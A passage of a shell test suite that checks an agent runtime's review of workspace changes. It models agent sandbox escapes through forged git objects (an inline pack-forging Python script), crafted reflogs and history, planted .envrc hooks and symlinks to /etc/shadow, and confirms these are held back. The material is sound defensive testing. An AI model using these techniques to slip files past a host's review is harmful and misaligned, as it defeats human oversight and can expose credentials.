    fail "the host's git wrote the agent's files: $(ls -la "$HOST")"
  [ "$(git -C "$HOST" rev-parse HEAD)" = "$head0" ] || fail "the host's HEAD moved: $(git -C "$HOST" log --oneline -2)"
  [ ! -e "$T/marker-reflog" ] || fail "marker"
  # control: the reflogs included, the same host commands write them (the test can fail)
  local incl=()
  for p in "${logs[@]}"; do incl+=(--include-protected "$p"); done
  run ar workspace "$ID" commit "${incl[@]}"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git checkout -q -- . && eval "$undo") >/dev/null 2>&1 </dev/null || true
  grep -q marker-reflog "$HOST/.envrc" || fail "control: the included reflog did not make git write .envrc: $(ls -la "$HOST")"
  [ "$variant" != reset ] || { [ -e "$HOST/$PYC" ] && [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ]; } ||
    fail "control: the included reflog did not make git write the files: $(ls -la "$HOST")"
}

@test "escape: a reflog-only commit (.envrc, __pycache__/*.pyc, a symlink; git reset --hard HEAD~1, then the host's git reset --hard HEAD@{1})" {
  reflog_escape reset
}

@test "escape: a reflog-only commit, an untracked .envrc in a stash below a clean one (the host's git stash pop stash@{1})" {
  reflog_escape stash
}

# Honest reflogs pass: the agent's commits, branches, checkouts, a merge, a
# reset of its own commit and an amend add entries that name clean commits,
# and a checkout of the host's own branch dev (whose .vscode/ the host's
# HEAD lacks; the host's reflogs expired, so only its ref names it); the
# reflogs are committed and the host's git reads them.
@test "workspace: an agent's honest reflogs (commits, branches, checkouts, reset, amend) pass unmarked and the host's git reflog shows them" {
  host_repo plain
  (cd "$HOST" && git checkout -q -b dev && mkdir .vscode && echo '{}' >.vscode/settings.json &&
    git add .vscode && git commit -q -m dev && git checkout -q master && git reflog expire --expire=now --all)
  bundle_usr 'set -e; cd /workspace
    git checkout -q dev && test -e .vscode/settings.json && git checkout -q master
    echo one >>a.txt && git commit -q -am one && git checkout -q -b topic && echo t >t.txt && git add t.txt &&
    git commit -q -m topic && git checkout -q master && git merge -q --no-edit topic && git checkout -q HEAD~1 &&
    git checkout -q master && echo two >>a.txt && git commit -q -am two && git reset -q --hard HEAD~1 &&
    git commit -q --amend -m amended && git stash list && git status --porcelain && echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq -r "[.changes[] | select(.protected) | .path | select(test(\"$GIT_DATA\"))] | length" <<<"$output")" = 0 ] ||
    fail "marked: $(jq -c '[.changes[] | select(.protected) | {path, protected}]' <<<"$output")"
  for p in .git/logs/HEAD .git/logs/refs/heads/master .git/logs/refs/heads/topic; do
    [ "$(jq -r --arg p "$p" '[.changes[] | select(.path == $p)] | length' <<<"$output")" = 1 ] || fail "no $p: $output"
  done
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" != *"left out .git/logs"* && "$output" != *"left out .git/refs"* &&
    "$output" != *"left out .git/HEAD"* ]] || fail "commit: $output"
  [ "$(git -C "$HOST" log -1 --format=%s)" = amended ] || fail "$(git -C "$HOST" log --oneline --all)"
  [ "$(git -C "$HOST" reflog | wc -l)" -ge 9 ] && [ "$(git -C "$HOST" reflog show topic | wc -l)" = 2 ] ||
    fail "host reflog: $(git -C "$HOST" reflog)"
  git -C "$HOST" reset -q --hard HEAD@{1} && [ -z "$(git -C "$HOST" status --porcelain)" ] ||
    fail "host reset: $(git -C "$HOST" status --porcelain)"
}

# The review compares the commits below a tip that the host's history does not hold too; the
# control's second commit (the objects on the host by then) still finds the ref protected.
@test "escape: protected files committed in the agent's git history, in an ancestor of a clean tip (git reset --hard HEAD~2)" {
  history_escape ancestor
}

@test "escape: protected files committed in the agent's git history, in an ancestor dated 1971 (before the host's history)" {
  history_escape ancestor-1971
}

# Honest history with a merge and a commit dated before the host's history (a skewed clock)
# passes unmarked: the walk below the tip checks the agent's commits, not the host's.
@test "workspace: an agent's merge and a commit with a skewed date pass unmarked" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace
    git checkout -q -b side && echo s >side.txt && git add side.txt && git commit -q -m side
    git checkout -q master && echo m >>a.txt && GIT_COMMITTER_DATE=1990-01-01T00:00:00Z git commit -q -am skewed
    git merge -q --no-edit side && git log --oneline | wc -l && git status --porcelain && echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *GIT-OK* ]] || fail "git: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '[.changes[] | select(.path | test("^\\.git/(refs/|HEAD$|packed-refs$)")) | select(.protected)] | length' <<<"$output")" = 0 ] ||
    fail "a ref is protected: $(jq -c '[.changes[] | select(.protected) | {path, protected}]' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(git -C "$HOST" log --oneline | wc -l)" = 4 ] && [ "$(git -C "$HOST" log -1 --format=%s)" = "Merge branch 'side'" ] ||
    fail "host log: $(git -C "$HOST" log --oneline)"
}

# The paths of git's objects, refs, logs and index (a jq regex).
GIT_DATA='^\\.git/(objects/[0-9a-f]{2}/|objects/pack/|refs/|logs/|index$|HEAD$|ORIG_HEAD$|packed-refs$)'

# Honest history passes: ordinary commits of many files, loose and after
# `git gc`, are not marked, and the host's git shows them after commit.
@test "workspace: an agent's ordinary commits (many files, then git gc) pass unmarked and the host's git log shows them" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace
    for d in 0 1 2 3 4 5 6 7 8 9; do mkdir -p pkg$d; for f in 0 1 2 3 4 5 6 7 8 9; do echo "v$d$f" >pkg$d/m$f.c; done; done
    git add -A && git commit -q -m many && echo more >>src/main.c && git commit -q -am second
    git checkout -q -b topic && echo t >topic.txt && git add topic.txt && git commit -q -m topic && git checkout -q master
    git gc -q && echo after >>a.txt && git commit -q -am after-gc && git status --porcelain && echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  # git's data (COMMIT_EDITMSG, info/refs and objects/info/ stay protected as before)
  run ar workspace "$ID" diff --format json
  [ "$(jq -r "[.changes[] | select(.protected) | .path | select(test(\"$GIT_DATA\"))] | length" <<<"$output")" = 0 ] ||
    fail "marked: $(jq -c '[.changes[] | select(.protected) | {path, protected}]' <<<"$output")"
  [ "$(jq -r '[.changes[] | select(.path == ".git/packed-refs")] | length' <<<"$output")" = 1 ] || fail "no packed-refs: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" != *"left out .git/refs"* && "$output" != *"left out .git/packed-refs"* &&
    "$output" != *"left out .git/HEAD"* && "$output" != *"left out .git/index"* ]] || fail "commit: $output"
  [ "$(git -C "$HOST" log --format=%s | head -4 | tr '\n' ' ')" = "after-gc second many base " ] || fail "$(git -C "$HOST" log --oneline --all)"
  [ "$(git -C "$HOST" log --format=%s topic -1)" = topic ] || fail "topic: $(git -C "$HOST" log --oneline --all)"
  [ -z "$(git -C "$HOST" status --porcelain)" ] || fail "host tree not clean: $(git -C "$HOST" status --porcelain)"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
}

# The review's cost follows the change: in a repository of 2,000 files in 223
# trees the agent changes one file 3 levels down and commits; the review opens
# 9 objects (counted with strace, not timed): the 5 new ones (commit, 3 trees,
# the blob; the diff hashes them as files anyway) and the host's commit and its
# 3 trees on the changed path.  Before the ref rule it opened the 5 only.
@test "workspace: one file changed in a large repository: the review reads only the changed trees" {
  command -v strace >/dev/null || skip "needs strace"
  host_repo plain
  (cd "$HOST" && for d in $(seq 0 19); do for s in $(seq 0 9); do mkdir -p "d$d/s$s" &&
    for f in 0 1 2 3 4 5 6 7 8 9; do echo "$d$s$f" >"d$d/s$s/f$f.c"; done; done; done &&
    git add -A && git commit -q -m big)
  [ "$(git -C "$HOST" ls-tree -r -t HEAD | grep -c ' tree ')" -ge 200 ]
  bundle_usr 'set -e; cd /workspace && echo change >>d7/s3/f5.c && git commit -q -am one && echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 strace -f -qq -e trace=openat2 -o "$T/diff.st" \
    "$AGENTRT" --root "$ROOT" --profile agent workspace "$ID" diff --format json >"$T/diff.json"
  [ "$(jq -r "[.changes[] | select(.protected) | .path | select(test(\"$GIT_DATA\"))] | length" "$T/diff.json")" = 0 ] ||
    fail "$(cat "$T/diff.json")"
  n=$(grep -oE '"\.git/objects/[0-9a-f]{2}/[0-9a-f]+"' "$T/diff.st" | sort -u | wc -l)
  [ "$n" = 9 ] || fail "objects opened: $n: $(grep -E 'objects/[0-9a-f]{2}/[0-9a-f]{6}' "$T/diff.st" | head -40)"
}

@test "workspace: an honest git commit still commits .git/index when the repository already has a .envrc and a symlink" {
  echo 'export A=1' >"$HOST/.envrc"
  ln -s a.txt "$HOST/link"
  host_repo plain
  bundle_usr "set -e; cd /workspace && echo more >>a.txt && echo new >new.txt && git add -A && git commit -q -m work &&
    git status --porcelain && echo GIT-OK"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *GIT-OK* ]] || fail "work: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" = none ] ||
    fail ".git/index protected: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" != *"left out .git/index"* ]] || fail "commit: $output"
  run git -C "$HOST" status --porcelain
  [ "$status" -eq 0 ] && [ -z "$output" ] || fail "the host's work tree, index and HEAD differ: $output"
  [ "$(git -C "$HOST" log -1 --format=%s)" = work ] || fail "the agent's commit is not HEAD"
}

@test "workspace: commit of a host symlink or file that became a directory (what is below it is written in the new directory, never through the link)" {
  mkdir -p "$T/outside" "$HOST/real"
  ln -s "$T/outside" "$HOST/out"
  ln -s real "$HOST/rel"
  echo plain >"$HOST/plain"
  bundle_for "cd /workspace && rm out rel plain && mkdir -p out rel/deep plain/sub && echo PWN >out/f &&
    echo G >rel/deep/g && echo H >plain/sub/h"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "run: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ -d "$HOST/out" ] && [ ! -L "$HOST/out" ] && [ "$(cat "$HOST/out/f")" = PWN ] || fail "out: $(ls -la "$HOST")"
  [ -d "$HOST/rel" ] && [ ! -L "$HOST/rel" ] && [ "$(cat "$HOST/rel/deep/g")" = G ] || fail "rel: $(ls -la "$HOST")"
  [ -d "$HOST/plain" ] && [ "$(cat "$HOST/plain/sub/h")" = H ] || fail "plain: $(ls -la "$HOST")"
  [ -z "$(ls -A "$T/outside")" ] && [ -z "$(ls -A "$HOST/real")" ] || fail "written through a link: $(ls -laR "$T/outside" "$HOST/real")"
  [ -z "$(ls -A "$HOST" | grep '^\.agentrt-ws')" ] || fail "staging left behind: $(ls -A "$HOST")"
  # the host's link changed since the start: a conflict, nothing written
  ID2=$ID-2
  ln -s "$T/outside" "$HOST/out2"
  bundle_for "cd /workspace && rm out2 && mkdir out2 && echo X >out2/x && sleep 2"
  ar run -d --bundle "$BUNDLE" "$ID2" >/dev/null
  sleep 0.5
  rm "$HOST/out2" && ln -s "$HOST/real" "$HOST/out2"
  sleep 2
  run ar workspace "$ID2" commit
  [ "$status" -ne 0 ] && [[ "$output" == *"out2"* ]] || fail "a changed host link was replaced: $output"
  [ -L "$HOST/out2" ] && [ -z "$(ls -A "$HOST/real")" ] || fail "written: $(ls -la "$HOST" "$HOST/real")"
  # --force takes the agent's directory in place of the host's new link, never writing through it
  run ar workspace "$ID2" commit --force
  [ "$status" -eq 0 ] || fail "commit --force: $output"
  [ -d "$HOST/out2" ] && [ ! -L "$HOST/out2" ] && [ "$(cat "$HOST/out2/x")" = X ] || fail "out2: $(ls -la "$HOST")"
  [ -z "$(ls -A "$HOST/real")" ] && [ -z "$(ls -A "$T/outside")" ] || fail "written through the link"
  ar delete -f "$ID2" >/dev/null 2>&1 || true
  ar workspace "$ID2" purge >/dev/null 2>&1 || true
}

# --- honest work inside: a container whose root borrows the host's /usr (real
# git, go, python3), under the default profile.  Nothing git or go does in the
# workspace may fail, and nothing may print an error.

# bundle_usr SCRIPT: like bundle_for, with /usr bound from the host and the
# merged-/usr links; git identity and Go's caches in the environment.
bundle_usr() {
  local r=$BUNDLE/rootfs args
  rm -rf "$r" && mkdir -p "$r"/{proc,dev,sys,workspace,tmp,root,etc,usr}
  for l in bin lib lib64 sbin; do ln -s "usr/$l" "$r/$l"; done
  cp /etc/ld.so.cache "$r/etc/" 2>/dev/null || true
  echo 'root:x:0:0:root:/root:/bin/sh' >"$r/etc/passwd"
  echo 'root:x:0:' >"$r/etc/group"
  args=$(jq -cn --arg s "$1" '["sh", "-c", $s]')
  jq --arg h "$HOST" --argjson a "$args" \
    '.process.terminal = false | .process.args = $a |
     .process.env += ["HOME=/root", "GIT_AUTHOR_NAME=agent", "GIT_AUTHOR_EMAIL=agent@example.com",
       "GIT_COMMITTER_NAME=agent", "GIT_COMMITTER_EMAIL=agent@example.com", "GOFLAGS=-mod=mod",
       "GOCACHE=/root/.cache/go", "GOPATH=/root/go", "GIT_CONFIG_NOSYSTEM=1"] |
     .mounts += [{"destination": "/usr", "type": "bind", "source": "/usr", "options": ["rbind", "ro"]},
                 {"destination": "/workspace", "type": "bind", "source": $h, "options": ["rbind", "rw"]}]' \
    "$BUNDLE/config.json" >"$T/config.json"
  mv "$T/config.json" "$BUNDLE/config.json"
}

# What an agent does with git all day, with a local "upstream" in /tmp.
GIT_WORK='set -e
  git init -q -b main /tmp/up && git -C /tmp/up commit -q --allow-empty -m up
  cd /workspace
  git init -q -b main .
  git init -q .
  git config user.name agent && git config core.autocrlf false
  git remote add origin /tmp/up
  git fetch -q origin
  git checkout -q -b t origin/main
  git -c protocol.file.allow=always submodule -q add /tmp/up sub
  echo hi >f.txt && git add f.txt && git commit -q -m work
  test "$(git config branch.t.remote)" = origin
  test "$(git config branch.t.merge)" = refs/heads/main
  test "$(git config remote.origin.url)" = /tmp/up
  test "$(git config submodule.sub.url)" = /tmp/up
  git config -f .gitmodules submodule.sub.path
  git status --porcelain
  python3 -c "import subprocess; subprocess.run([\"git\", \"log\", \"--oneline\", \"-1\"], check=True)"
  echo GIT-OK'

check_git_output() {
  [ "$status" -eq 0 ] || fail "status $status: $output"
  [[ "$output" == *GIT-OK* ]] || fail "$output"
  ! grep -qiE 'error|fatal|busy|read-only|warning' <<<"$output" || fail "git printed an error: $output"
}

@test "workspace: git init/config/remote add/checkout -b with tracking/submodule add in an empty workspace, no error" {
  requires_git
  rm -rf "${HOST:?}"/* && bundle_usr "$GIT_WORK"
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  [ -z "$(ls -A "$HOST")" ] || fail "the host dir changed before commit: $(ls -A "$HOST")"
  run ar workspace "$ID" diff
  [[ "$output" == *"! added     .git/config"* ]] && [[ "$output" == *"! added     .gitmodules"* ]]
  [[ "$output" == *"added     f.txt"* ]]
  # git's own data is not protected: a new repository's refs (with origin's), logs
  run ar workspace "$ID" diff --format json
  for p in .git/refs/remotes/origin/main .git/logs/refs/remotes/origin/main; do
    [ "$(jq -r --arg p "$p" '[.changes[] | select(.path == $p)] | if length == 1 then .[0].protected // "none" else "missing" end' <<<"$output")" = none ] ||
      fail "$p: $(jq -c --arg p "$p" '.changes[] | select(.path == $p)' <<<"$output")"
  done
  # but the branch's commit (and HEAD, and their reflogs, which name it) brings the new
  # submodule: `.gitmodules` (see "escape: protected files committed in the agent's git history")
  for p in .git/HEAD .git/refs/heads/t .git/logs/HEAD .git/logs/refs/heads/t; do
    [[ "$(jq -r --arg p "$p" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" == *'a commit with a new or changed'*'`'* ]] ||
      fail "$p: $(jq -c --arg p "$p" '.changes[] | select(.path == $p)' <<<"$output")"
  done
  # but the index stages the new .gitmodules and gitlink `sub`: `git checkout -- .` would
  # write the .gitmodules that is left out (see "escape: protected entries staged in a git index")
  [[ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" == *'new or changed'*'`.gitmodules`' ]] ||
    fail ".git/index: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
}

@test "workspace: the same git work in a host repository, no error" {
  host_repo plain
  bundle_usr "${GIT_WORK/git init -q -b main ./true}"
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/config") | .protected != null' <<<"$output")" = true ]
  # the index is protected only for the submodule it stages (.gitmodules, the gitlink `sub`)
  [[ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" == *'new or changed'*'`.gitmodules`' ]] ||
    fail "the index of honest work is protected for another reason: $output"
}

# An honest agent's day in the operator's repository: branch, commit, rebase,
# stash, a worktree.  The default commit brings its objects, refs, logs and
# index; the host's git sees the agent's history and a clean tree.
@test "workspace: an honest agent's branch/rebase/stash/worktree commits, and the host's git sees its history" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace
    git checkout -q -b feature && echo one >f.txt && git add f.txt && git commit -q -m one
    git checkout -q master && echo base2 >g.txt && git add g.txt && git commit -q -m base2
    git checkout -q feature && git rebase -q master && echo wip >>f.txt && git stash -q && git stash pop -q &&
    git commit -q -am two && git worktree add -q /tmp/wt master >/dev/null 2>&1 && git worktree remove /tmp/wt
    git status --porcelain; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '[.changes[] | select(.protected) | .path | select(test("^\\.git/(objects|refs|logs)/|^\\.git/(index|HEAD|ORIG_HEAD)$"))] | length' <<<"$output")" = 0 ] ||
    fail "git data protected: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(git -C "$HOST" log --format=%s feature | head -3 | tr '\n' ' ')" = "two one base2 " ] || fail "$(git -C "$HOST" log --oneline --all)"
  [ "$(git -C "$HOST" rev-parse --abbrev-ref HEAD)" = feature ]
  [ -z "$(git -C "$HOST" status --porcelain)" ] || fail "host tree not clean: $(git -C "$HOST" status --porcelain)"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
}

# The rest of an honest agent's day: fetch from a local bare repository (a clone's upstream
# in /tmp), cherry-pick from it, bisect (run, then reset), git gc.  The default commit
# brings objects, refs, logs and index; the host's git sees the history, a clean tree, and
# fsck passes.
@test "workspace: an honest agent's fetch from a local bare repository, cherry-pick, bisect and gc commit cleanly, and the host's git sees its history" {
  host_repo plain
  bundle_usr 'set -e
    git clone -q --bare /workspace /tmp/up.git && git clone -q /tmp/up.git /tmp/w
    cd /tmp/w && echo up >up.txt && git add up.txt && git commit -q -m up && git push -q origin HEAD:refs/heads/up
    cd /workspace && git remote add up /tmp/up.git && git fetch -q up
    git checkout -q -b work && git cherry-pick up/up >/dev/null
    for i in 1 2 3 4; do echo $i >>n.txt; [ $i != 3 ] || echo bad >bad.txt; git add -A; git commit -q -m n$i; done
    git bisect start HEAD master >/dev/null && git bisect run sh -c "test ! -e bad.txt" >/tmp/bisect.out
    grep -q "n3" /tmp/bisect.out && git bisect reset >/dev/null 2>&1 && git rm -q bad.txt && git commit -q -m fix
    git gc -q && git status --porcelain; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '[.changes[] | select(.protected) | .path | select(test("^\\.git/(objects|refs|logs)/|^\\.git/(index|HEAD|ORIG_HEAD|FETCH_HEAD|packed-refs)$")) | select(startswith(".git/objects/info/") | not)] | length' <<<"$output")" = 0 ] ||
    fail "git data protected: $(jq -c '[.changes[] | select(.protected) | [.path, .protected]]' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(git -C "$HOST" log --format=%s work | head -6 | tr '\n' ' ')" = "fix n4 n3 n2 n1 up " ] || fail "$(git -C "$HOST" log --oneline --all)"
  [ "$(git -C "$HOST" rev-parse --abbrev-ref HEAD)" = work ] && [ "$(cat "$HOST/up.txt")" = up ] && [ ! -e "$HOST/bad.txt" ]
  [ -z "$(git -C "$HOST" status --porcelain)" ] || fail "host tree not clean: $(git -C "$HOST" status --porcelain)"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
  [ -z "$(git -C "$HOST" for-each-ref refs/bisect)" ] || fail "bisect refs left: $(git -C "$HOST" for-each-ref refs/bisect)"
}

# An index whose entries keep the host's git status from showing their files: skip-worktree
# (what `git sparse-checkout set` gives every file outside its cone) and assume-unchanged.
# Committed, the sparse set's deletions emptied the host's data/ while the host's `git status`
# said clean, and neither `git checkout -- .` nor `git reset --hard` brought it back.  Now such
# an index is left out (unless the host's index has the same bits): the deletions and the change
# show in the host's git status, and git restores them.
@test "workspace: an index that hides files from the host's git status (sparse-checkout, assume-unchanged) is left out, and the host's git shows and restores them" {
  host_repo plain
  bundle_usr 'set -e; cd /workspace
    git sparse-checkout set src
    echo edited >>b.txt && git update-index --assume-unchanged b.txt
    [ ! -e data/rows.txt ] && git status --porcelain; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  run ar workspace "$ID" diff --format json
  jq -e '.changes[] | select(.path == ".git/index") | .protected | test("hides a file from the host")' \
    <<<"$output" >/dev/null || fail "index: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
  jq -e '.changes[] | select(.path == "data" and .kind == "deleted")' <<<"$output" >/dev/null ||
    fail "the sparse set's deletion is not a change: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  st=$(git -C "$HOST" status --porcelain)
  [[ "$st" == *" D data/rows.txt"* && "$st" == *" M b.txt"* ]] || fail "the host's status hides them: $st"
  git -C "$HOST" checkout -q -- data && [ "$(cat "$HOST/data/rows.txt")" = rows ] ||
    fail "git did not restore data/: $(ls -A "$HOST/data" 2>&1)"
}

# The files of objects/pack that git trusts without checking them against the packs: a
# multi-pack-index that maps a commit's id to another object (the host's git log showed the
# other commit's message and its HEAD could no longer be parsed), reachability bitmaps and
# reverse indexes that `git gc` repacks by.  Only packs, their .idx and .keep are git data;
# the rest is left out, which costs the host's git speed only.
@test "escape: pack indexes git trusts unchecked (multi-pack-index, bitmaps, .rev) are left out; the host's git works without them" {
  host_repo plain
  for i in 1 2 3; do echo "$i" >>"$HOST/a.txt" && git -C "$HOST" commit -qam "c$i"; done
  bundle_usr 'set -e; cd /workspace
    echo more >>a.txt && git commit -qam agent
    git -c pack.writeReverseIndex=true repack -q -a -d --write-bitmap-index
    git multi-pack-index write --bitmap
    ls .git/objects/pack; echo GIT-OK'
  run ar run --bundle "$BUNDLE" "$ID"
  check_git_output
  [[ "$output" == *multi-pack-index* && "$output" == *.bitmap* && "$output" == *.rev* ]] || fail "$output"
  run ar workspace "$ID" diff --format json
  for f in 'multi-pack-index' '[.]bitmap$' '[.]rev$'; do
    jq -e --arg f "$f" '[.changes[] | select(.path | test("objects/pack/") and test($f)) |
      select(.protected // "" | test("index of packs"))] | length > 0' \
      <<<"$output" >/dev/null || fail "$f not protected: $(jq -c '[.changes[] | select(.path | test("objects/pack"))]' <<<"$output")"
  done
  [ "$(jq '[.changes[] | select(.path | test("objects/pack/pack-[0-9a-f]+\\.(pack|idx)$")) | select(.protected)] | length' <<<"$output")" = 0 ] ||
    fail "a pack or its .idx protected: $(jq -c '[.changes[] | select(.protected) | .path]' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ -z "$(ls "$HOST/.git/objects/pack" | grep -E 'multi-pack|bitmap|\.rev$')" ] || fail "$(ls "$HOST/.git/objects/pack")"
  [ "$(git -C "$HOST" log --format=%s -1)" = agent ] || fail "$(git -C "$HOST" log --oneline | head -3)"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
  [ -z "$(git -C "$HOST" status --porcelain)" ] || fail "$(git -C "$HOST" status --porcelain)"
  git -C "$HOST" gc -q && git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "gc: $(git -C "$HOST" fsck 2>&1 | head)"
}

# forged_object_escape VARIANT: the agent leaves every ref alone and forges a copy of the
# tree the host's HEAD names (its id, another content: the host's tree plus a .envrc and a
# symlink to /etc/shadow): the host's loose object rewritten (loose), or a new pack holding it
# (pack: git reads a pack's copy before a loose one).  git checks no id when it reads a tree
# for a checkout, so the host's `git reset --hard` writes the agent's files although no ref
# changed.  The review must mark the forged copy, the default commit leave it out, and the
# host's git write nothing; committed with --include-protected, the same command writes them
# (the control).
forged_object_escape() {
  local variant=$1 forged
  host_repo plain
  MARK=$T/marker-forged
  local plant="set -e; cd /workspace; T=\$(git rev-parse HEAD^{tree})
    echo 'touch $MARK' >.envrc && ln -s /etc/shadow notes.txt
    export GIT_INDEX_FILE=/tmp/fx; git read-tree HEAD; git add -f .envrc notes.txt; F=\$(git write-tree)
    unset GIT_INDEX_FILE; rm -f .envrc notes.txt
    FP=.git/objects/\$(echo \$F | cut -c1-2)/\$(echo \$F | cut -c3-)
    TP=.git/objects/\$(echo \$T | cut -c1-2)/\$(echo \$T | cut -c3-)"
  case $variant in
  loose) plant="$plant; rm -f \$TP && cp \$FP \$TP && rm -f \$FP && echo FORGED \$TP" ;;
  pack) plant="$plant; mkdir -p .git/objects/pack && P=\$(python3 /etc/forge.py \$T \$F) && rm -f \$FP &&
      echo FORGED .git/objects/pack/\$P.pack .git/objects/pack/\$P.idx" ;;
  esac
  bundle_usr "$plant; echo PLANTED"
  cat >"$BUNDLE/rootfs/etc/forge.py" <<'PY'
import hashlib, struct, sys, zlib
t, f = sys.argv[1], sys.argv[2]
raw = zlib.decompress(open(".git/objects/%s/%s" % (f[:2], f[2:]), "rb").read())
body = raw[raw.index(b"\0") + 1:]
n = len(body); b = 2 << 4 | n & 15; n >>= 4; hdr = bytearray()
while n:
    hdr.append(b | 0x80); b = n & 0x7f; n >>= 7
hdr.append(b)
entry = bytes(hdr) + zlib.compress(body)
pack = b"PACK" + struct.pack(">II", 2, 1) + entry
pack += hashlib.sha1(pack).digest()
oid = bytes.fromhex(t)
idx = b"\377tOc" + struct.pack(">I", 2) + b"".join(struct.pack(">I", int(i >= oid[0])) for i in range(256))
idx += oid + struct.pack(">II", zlib.crc32(entry), 12) + pack[-20:]
idx += hashlib.sha1(idx).digest()
for ext, data in ((".pack", pack), (".idx", idx)):
    open(".git/objects/pack/pack-%s%s" % (pack[-20:].hex(), ext), "wb").write(data)
print("pack-" + pack[-20:].hex())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  read -ra forged <<<"$(sed -n 's/^FORGED //p' <<<"$output")"
  [ "${#forged[@]}" -ge 1 ] || fail "plant: $output"
  marked "${forged[@]}"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  (cd "$HOST" && git status && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.envrc" ] && [ ! -L "$HOST/notes.txt" ] ||
    fail "the host's git reset --hard wrote the agent's files: $(ls -la "$HOST")"
  git -C "$HOST" fsck --no-progress >/dev/null 2>&1 || fail "fsck: $(git -C "$HOST" fsck 2>&1 | head)"
  # control: the forged copy included, the same host command writes them (the test can fail);
  # with it the repository's other changes held back because of it (the blobs it names)
  local incl=() held
  run ar workspace "$ID" diff --format json
  held=$(jq -r '.changes[] | select(.protected // "" | test("new objects are held back")) | .path' <<<"$output")
  for p in "${forged[@]}" $held; do incl+=(--include-protected "$p"); done
  run ar workspace "$ID" commit "${incl[@]}"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  grep -q marker-forged "$HOST/.envrc" && [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] ||
    fail "control: the forged tree did not make git write the files: $(ls -la "$HOST")"
}

# The same forged copies under names a case-folding or normalising host resolves to git's own
# (`objects/Pack/`, `objects/2E/`, a trailing dot): there the commit would write the object
# files the host's git reads, so they are held back whatever their content.
@test "escape: object files under names a case-folding host takes for git's own (objects/Pack/, objects/2E/, a trailing dot)" {
  host_repo plain
  bundle_for 'cd /workspace/.git/objects && mkdir -p Pack 2E ab &&
    echo x >Pack/pack-0123456789012345678901234567890123456789.idx &&
    echo x >Pack/pack-0123456789012345678901234567890123456789.pack && echo x >Pack/multi-pack-index &&
    echo x >2E/81171448eb9f2ee3821e3d447aa6b2fe3ddba1 && echo x >ab/cdef0123456789012345678901234567890123. &&
    echo x >ab/CDEF012345678901234567890123456789012a'
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] || fail "plant: $output"
  marked .git/objects/Pack/pack-0123456789012345678901234567890123456789.idx \
    .git/objects/Pack/pack-0123456789012345678901234567890123456789.pack .git/objects/Pack/multi-pack-index \
    .git/objects/2E/81171448eb9f2ee3821e3d447aa6b2fe3ddba1 .git/objects/ab/cdef0123456789012345678901234567890123. \
    .git/objects/ab/CDEF012345678901234567890123456789012a
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
